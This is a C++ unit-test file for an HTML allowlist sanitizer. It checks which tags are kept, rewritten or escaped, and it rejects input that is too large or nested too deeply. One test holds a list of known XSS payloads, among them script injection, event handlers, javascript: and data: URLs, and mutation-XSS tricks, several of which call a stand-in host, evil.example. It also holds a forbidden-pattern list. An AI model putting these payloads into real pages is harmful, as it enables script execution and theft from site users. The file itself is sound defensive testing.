#include "services/board/html/allowlist_cleaner.h"

#include <string>

#include "gtest/gtest.h"
#include "services/common/base/error.h"

namespace deputies::board {
namespace {

std::string Clean(const std::string& html) {
  const absl::StatusOr<std::string> text = AllowlistCleaner().Clean(html, {7, 8}, "body");
  return text.ok() ? *text : base::ErrorReason(text.status());
}

TEST(AllowlistCleanerTest, KeepsTheSubset) {
  const std::string text =
      "<h2>通知</h2><p>请于<strong>3月1日</strong>到<em>代表之家</em>。<br>电话 "
      "<a href=\"tel:04781234567\">0478-1234567</a></p><ul><li>一</li></ul>"
      "<table><tbody><tr><td colspan=\"2\">表</td></tr></tbody></table>"
      "<img data-image-id=\"7\" alt=\"图\">";
  EXPECT_EQ(Clean(text), text);
  EXPECT_EQ(Clean("<h1>大</h1><b>粗</b><i>斜</i>"), "<h2>大</h2><strong>粗</strong><em>斜</em>");
  EXPECT_EQ(Clean("<div>一</div><div>二</div>"), "一<br>二<br>");
  EXPECT_EQ(Clean("1 < 2 && \"x\""), "1 &lt; 2 &amp;&amp; &quot;x&quot;");
}

// Vectors that got through well-known filters.
TEST(AllowlistCleanerTest, NothingThatRunsOrCallsOutIsLeft) {
  const char* const vectors[] = {
      "字<script>alert(1)</script>",
      "字<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      "字<scr<script>ipt>alert(1)</scr</script>ipt>",
      "字<p onclick=alert(1) style='background:url(//evil.example)' class=x id=y>",
      "字<a href=\"javascript:alert(1)\">x</a>",
      "字<a href=\" java\nscript:alert(1)\">x</a>",
      "字<a href=\"&#106;avascript:alert(1)\">x</a>",
      "字<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
      "字<a href=\"//evil.example\">x</a>",
      "字<img src=x onerror=alert(1)>",
      "字<img data-image-id=7 src=//evil.example/p.gif onload=alert(1)>",
      "字<svg><script>alert(1)</script><a href=javascript:alert(1)>x</a></svg>",
      "字<math><mi><table><mglyph><style><img src=x "
      "onerror=alert(1)></style></mglyph></table></mi>",
      "字<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
      "字<style>@import '//evil.example';</style><link rel=stylesheet href=//evil.example>",
      "字<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
      "字<form action=//evil.example><input name=a><button>b</button></form>",
      "字<!--<img src=x onerror=alert(1)>--><![CDATA[<script>]]>",
      "字<template><script>alert(1)</script></template>",
      "字<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      "字<textarea><img src=x onerror=alert(1)></textarea>",
      "字<p title='\"><img src=x onerror=alert(1)>'>",
  };
  for (const char* vector : vectors) {
    const std::string text = Clean(vector);
    EXPECT_EQ(text.rfind("字", 0), 0u) << vector;
    for (const char* forbidden :
         {"<script", "<svg",      "<math",     "<style",      "<iframe",     "<object",
          "<embed",  "<link",     "<meta",     "<base",       "<form",       "<input",
          "<button", "<template", "<textarea", "<noscript",   "<!--",        " on",
          " style=", " src=",     " class=",   "href=\"java", "href=\"data", "href=\"//"}) {
      EXPECT_EQ(text.find(forbidden), std::string::npos) << vector << " gave " << text;
    }
    EXPECT_EQ(Clean(text), text) << "a second pass changes nothing";
  }
}

TEST(AllowlistCleanerTest, ImagesAreTheOnesOfTheText) {
  EXPECT_EQ(Clean("字<img data-image-id=\"8\"><img data-image-id=\"9\"><img src=\"x\">"),
            "字<img data-image-id=\"8\" alt=\"\">");
}

TEST(AllowlistCleanerTest, EmptyAndBoundlessTextIsRefused) {
  EXPECT_EQ(Clean("<p> </p><script>x</script>"), "FIELD_INVALID");
  std::string tags;
  for (int i = 0; i < 5001; ++i) tags += "<b>";
  EXPECT_EQ(Clean(tags + "字"), "FIELD_INVALID");
  const auto nested = [](int depth, const std::string& between) {
    std::string html;
    for (int i = 0; i < depth; ++i) html += "<blockquote>" + between;
    return html + "字";
  };
  EXPECT_EQ(Clean(nested(101, "")), "FIELD_INVALID");
  EXPECT_EQ(Clean(nested(101, "</i></x>")), "FIELD_INVALID");
  const std::string text = Clean(nested(90, ""));
  EXPECT_NE(text.find("字"), std::string::npos);
  EXPECT_LT(text.size(), 1500u) << "elements below the depth that is kept are left out";
  std::string list = "<ul>";
  for (int i = 0; i < 500; ++i) list += "<li>一<p>二";
  EXPECT_NE(Clean(list + "</ul>").find("二"), std::string::npos);
}

}  // namespace
}  // namespace deputies::board
